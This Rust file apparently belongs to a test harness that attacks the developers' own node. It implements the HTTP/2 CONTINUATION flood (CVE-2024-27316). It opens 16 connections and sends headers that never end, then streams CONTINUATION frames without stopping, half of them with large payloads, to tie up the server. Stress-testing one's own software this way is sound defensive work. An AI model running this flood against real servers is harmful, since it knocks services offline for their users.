//! Headers without an end (CVE-2024-27316). The attacker sends HEADERS without the flag that ends
//! them, and then CONTINUATION frames for ever. The request never begins, so nothing that counts
//! requests sees it, while the node keeps the headers and looks at each frame.

use anyhow::Result;
use tokio::io::AsyncWriteExt;

use super::super::case::{Case, Role, Target};
use super::super::wire::{self, CONTINUATION, HEADERS, PAYLOAD_BYTES, call_headers, frame, indexed_header};

/// Connections.
const CONNECTIONS: usize = 16;
/// Frames of one write.
const AT_ONCE: usize = 16;

pub(crate) const CASE: Case = Case {
    name: "continuation",
    does: "sends headers that never end, on 16 connections",
    role: Role::Follower,
    attack: |target| Box::pin(attack(target)),
    ..Case::PLAIN
};

pub(crate) const AT_PEERS: Case = CASE.at_peers("continuation-peers", "does what continuation does, at the peer port");
pub(crate) const AT_HTTP: Case = CASE.at_http("continuation-http", "does what continuation does, at the http port");

async fn attack(target: Target) -> Result<()> {
    target.together(CONNECTIONS, never_end_the_headers).await
}

/// Every second attacker sends large frames, the others empty ones: these cost almost nothing.
async fn never_end_the_headers(target: Target, n: usize) -> Result<()> {
    let mut connection = wire::connect_http2(target.port()).await?;
    connection.io.write_all(&frame(HEADERS, 0, 1, &call_headers(target.small_call().0))).await?;
    let header = indexed_header("x", &[b'a'; 1_000]);
    let payload = if n.is_multiple_of(2) { header.repeat(PAYLOAD_BYTES / header.len()) } else { Vec::new() };
    let frames = frame(CONTINUATION, 0, 1, &payload).repeat(AT_ONCE);
    wire::write_again_and_again(&target, &mut connection.io, &frames, "continuations", AT_ONCE).await
}
